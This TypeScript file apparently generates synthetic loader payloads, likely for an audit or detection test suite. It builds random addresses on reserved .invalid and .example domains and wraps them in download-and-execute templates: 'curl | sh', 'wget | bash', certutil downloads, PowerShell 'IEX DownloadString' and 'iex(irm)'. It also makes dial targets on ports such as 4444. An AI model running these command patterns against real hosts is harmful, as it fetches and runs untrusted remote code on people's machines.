import type { Random } from '../audit/random.ts';
import type { Act } from './loaderStyle.ts';

const SOUNDS = 'ka lo mi ren tas vel dor pin sul gar nex ori bel tam zu fel'.split(' ');
const FOLDERS = 'storage cdn files dl api v2 static pub get media'.split(' ');

/**
 * The text that a loader keeps from being read: an address, or a command line with one.
 *
 * It is never run by anything, and would do nothing: its host ends in a top-level
 * domain that is set aside to exist nowhere (RFC 2606, section 2).
 */
export function payload(act: Act, random: Random, onWindows: boolean): string {
  if (act === 'dial') return `${host(random)}:${random.pick([443, 4444, 8080, 1337, 9001, 53])}`;
  const address = url(random);
  if (act === 'download') return address;
  if (act === 'powershell') return powershellLine(address, random);
  return onWindows ? commandLine(address, random) : shellLine(address, random);
}

/** A host that nobody can have. */
function host(random: Random): string {
  const label = (): string => Array.from({ length: 2 + random.below(3) }, () => random.pick(SOUNDS)).join('');
  const name = random.chance(0.3) ? `${label()}.${label()}` : label();
  return `${name}.${random.pick(['invalid', 'invalid', 'example'])}`;
}

function url(random: Random): string {
  const scheme = random.chance(0.75) ? 'https' : 'http';
  const port = random.chance(0.15) ? `:${8000 + random.below(999)}` : '';
  const token = random.below(0xffffff).toString(16).padStart(6, '0');
  return `${scheme}://${host(random)}${port}/${random.pick(FOLDERS)}/${token}`;
}

function shellLine(address: string, random: Random): string {
  const file = `/tmp/.${random.pick(SOUNDS)}${random.below(99)}`;
  return random.pick([
    `wget -O - ${address} | /bin/bash &`,
    `curl -s ${address} | sh`,
    `curl -fsSL ${address} -o ${file} && chmod +x ${file} && ${file}`,
    `(wget -qO- ${address} || curl -s ${address}) | bash`,
    `nohup wget -q ${address} -O ${file}; sh ${file} &`,
  ]);
}

function commandLine(address: string, random: Random): string {
  const file = `%TEMP%\\${random.pick(SOUNDS)}${random.below(99)}.exe`;
  return random.pick([
    `curl -s -o ${file} ${address} && ${file}`,
    `certutil -urlcache -split -f ${address} ${file} & start ${file}`,
    `powershell -c "iwr ${address} -OutFile ${file}" && ${file}`,
  ]);
}

function powershellLine(address: string, random: Random): string {
  const file = `$env:TEMP\\${random.pick(SOUNDS)}${random.below(99)}.exe`;
  return random.pick([
    `IEX (New-Object Net.WebClient).DownloadString('${address}')`,
    `iwr ${address} -OutFile ${file}; Start-Process ${file}`,
    `Invoke-WebRequest -Uri ${address} -OutFile ${file}; & ${file}`,
    `iex(irm ${address})`,
  ]);
}
